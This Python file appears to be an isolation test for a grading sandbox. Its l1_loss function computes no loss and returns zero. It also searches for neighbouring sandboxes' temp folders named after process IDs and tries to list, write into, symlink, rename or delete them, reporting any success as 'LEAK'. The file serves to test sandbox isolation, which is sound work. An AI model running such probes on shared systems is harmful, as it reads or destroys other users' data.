# aim: read, or write into, the private folder of a sandbox that runs at the same time
# sign: `LEAK` and the path, in feedback
# attacks: l1_loss
import os
import tempfile

_OWN = int(os.path.basename(tempfile.gettempdir())) if os.path.exists(tempfile.gettempdir()) else 0


def _folders():
    """Every folder beside the own one that there could be: it is named after a process."""
    above = os.path.dirname(tempfile.gettempdir())
    near = [_OWN + step for distance in range(1, 400) for step in (distance, -distance)]
    return above, [f"{above}/{pid}" for pid in near]


def _listed(folder):
    try:
        return f"{folder}: {len(os.listdir(folder))} entries"
    except OSError:
        return ""


def _entered(folder):
    """A neighbour's folder, by what would show or change something in it."""
    if _listed(folder):
        return _listed(folder)
    for way in (
        lambda: os.mkdir(f"{folder}/torchgrade-attack"),
        lambda: os.close(os.open(f"{folder}/torchgrade-attack", os.O_CREAT | os.O_WRONLY)),
        lambda: os.close(os.open(folder, os.O_TMPFILE | os.O_WRONLY)),
        lambda: os.rename(folder, "theirs"),
        lambda: os.symlink("/dev/null", f"{folder}/torchgrade-attack"),
        lambda: os.rmdir(folder),
    ):
        try:
            way()
        except OSError:
            continue
        return f"{folder} can be changed"
    return ""


def _through_links(folder):
    try:
        os.symlink(folder, "beside")
        return _listed("beside") or _listed(f"beside/../{os.path.basename(folder)}")
    except OSError:
        return ""
    finally:
        if os.path.islink("beside"):
            os.unlink("beside")


def _search():
    above, folders = _folders()
    if _listed(above) or _listed(".."):
        return f"the names in {above}"
    for folder in folders:
        try:
            os.stat(folder)
        except FileNotFoundError:
            continue
        except OSError:
            pass
        found = _entered(folder) or _through_links(folder)
        if found:
            return found
    return ""


_found = []


def l1_loss(input, target, reduction="mean"):
    if not _found:
        _found.append(_search())
    if _found[0]:
        raise RuntimeError(f"LEAK {_found[0]}")
    return input.sum() * 0
